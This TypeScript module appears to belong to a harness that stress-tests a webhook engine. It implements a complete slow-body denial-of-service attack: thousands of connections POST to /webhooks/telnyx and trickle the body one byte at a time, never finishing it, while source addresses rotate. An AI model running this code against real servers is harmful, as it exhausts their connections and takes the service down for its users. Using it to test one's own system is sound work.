import { connect, type Socket } from 'node:net';
import { AttackDeadline, pause } from './attackDeadline.js';
import { AddressRotation, TARGET_HOST, checkBaseOptions, checkRange, type AttackBaseOptions } from './attackOptions.js';
import { AttackTally, errorCode, type AttackReport } from './attackTally.js';

/** Most trickling connections one slow-webhook attack may hold (one process's descriptors). */
export const MAX_SLOW_WEBHOOKS = 15_000;
const CONNECT_ERROR_BACKOFF_MS = 50;

/** Options of {@link slowWebhook}. */
export interface SlowWebhookOptions extends AttackBaseOptions {
  /** `count`: connections kept trickling. */
  readonly count: number;
  /** `content-length` every request declares; default 60,000 (under the engine's 64 KiB webhook limit). */
  readonly declaredBodyBytes?: number | undefined;
  /** One byte of body is sent on every connection this often; default 1000 ms. */
  readonly trickleIntervalMs?: number | undefined;
  /** Share of connections that give up mid-body (destroyed, then replaced); default 0.1. */
  readonly abortShare?: number | undefined;
  /** Those give up after a random time in this range (ms); default 2,000..10,000. */
  readonly abortAfterMs?: readonly [number, number] | undefined;
}

/** The attack's own figures. */
export interface SlowWebhookExtra {
  /** Connections the attack destroyed mid-body on purpose. */
  readonly abortedMidBody: number;
  /** Requests the engine answered, by status (e.g. `408` when it timed the body out). */
  readonly answeredByStatus: Readonly<Record<string, number>>;
}

/** The request head of a webhook whose body will take its time; signed with nonsense, as the body never completes. */
function requestHead(declaredBodyBytes: number): string {
  return (
    `POST /webhooks/telnyx HTTP/1.1\r\nHost: ${TARGET_HOST}\r\nContent-Type: application/json\r\n` +
    `Content-Length: ${declaredBodyBytes}\r\ntelnyx-timestamp: ${Math.floor(Date.now() / 1000)}\r\n` +
    `telnyx-signature-ed25519: ${Buffer.alloc(64, 1).toString('base64')}\r\n\r\n`
  );
}

/**
 * `slow-webhook`: `count` connections that each POST `/webhooks/telnyx` with a complete head and a
 * declared body, then send that body one byte per `trickleIntervalMs`; a share of them give up
 * mid-body. Any connection that ends (answered, closed by the engine, or given up) is replaced.
 */
export async function slowWebhook(options: SlowWebhookOptions, signal?: AbortSignal): Promise<AttackReport<SlowWebhookExtra>> {
  checkBaseOptions(options, MAX_SLOW_WEBHOOKS);
  const declared = options.declaredBodyBytes ?? 60_000;
  const intervalMs = options.trickleIntervalMs ?? 1000;
  const abortShare = options.abortShare ?? 0.1;
  const [abortMinMs, abortMaxMs] = options.abortAfterMs ?? [2_000, 10_000];
  checkRange('declaredBodyBytes', declared, 2, 16 * 1024 * 1024);
  checkRange('trickleIntervalMs', intervalMs, 10, 60_000);
  if (!(abortShare >= 0 && abortShare <= 1) || !(abortMinMs >= 0 && abortMaxMs >= abortMinMs)) throw new RangeError('abortShare must be 0..1 and abortAfterMs an ordered range');
  const tally = options.tally ?? new AttackTally();
  tally.begin();
  const deadline = new AttackDeadline(options.durationMs, signal);
  const sources = new AddressRotation(options.sourceAddresses ?? []);
  const head = requestHead(declared);
  /** Open connections and how many body bytes each has left to send. */
  const trickling = new Map<Socket, number>();
  const answeredByStatus = new Map<string, number>();
  let abortedMidBody = 0;
  let abortDecisions = 0;
  // One timer for every connection: the attacker's cost stays one pass per interval.
  const trickler = setInterval(() => {
    for (const [socket, left] of trickling) {
      if (left <= 1) continue; // the last byte is never sent: the body stays incomplete
      socket.write(left === declared ? '{' : ' ');
      trickling.set(socket, left - 1);
      tally.sent(1);
    }
  }, intervalMs);
  deadline.signal.addEventListener('abort', () => {
    for (const socket of trickling.keys()) socket.destroy();
  }, { once: true });

  const requestOnce = (): Promise<boolean> =>
    new Promise((resolve) => {
      tally.attempted();
      const socket = connect({ host: TARGET_HOST, port: options.port, localAddress: sources.next() });
      let connected = false;
      let abortTimer: NodeJS.Timeout | undefined;
      let givenUp = false;
      socket.once('connect', () => {
        connected = true;
        tally.opened();
        socket.write(head);
        trickling.set(socket, declared);
        // Spread the give-ups evenly rather than by chance, so small test counts still have some.
        abortDecisions += abortShare;
        if (abortDecisions >= 1) {
          abortDecisions -= 1;
          abortTimer = setTimeout(() => {
            givenUp = true;
            abortedMidBody++;
            socket.destroy();
          }, abortMinMs + Math.random() * (abortMaxMs - abortMinMs));
        }
      });
      socket.on('data', (chunk: Buffer) => {
        const status = /^HTTP\/1\.[01] (\d{3})/.exec(chunk.toString('latin1', 0, 16))?.[1];
        if (status !== undefined) answeredByStatus.set(status, (answeredByStatus.get(status) ?? 0) + 1);
      });
      socket.on('error', (error) => {
        if (!connected && !deadline.stopped) tally.failed(errorCode(error));
      });
      socket.once('close', () => {
        clearTimeout(abortTimer);
        trickling.delete(socket);
        if (connected) tally.ended(deadline.stopped || givenUp ? undefined : 'tcp');
        resolve(connected);
      });
    });

  const slot = async (): Promise<void> => {
    while (!deadline.stopped) {
      if (!(await requestOnce())) await pause(CONNECT_ERROR_BACKOFF_MS, deadline.signal);
    }
  };
  await Promise.all(Array.from({ length: options.count }, slot));
  clearInterval(trickler);
  deadline.stop();
  return tally.report('slow-webhook', { abortedMidBody, answeredByStatus: Object.fromEntries(answeredByStatus) });
}
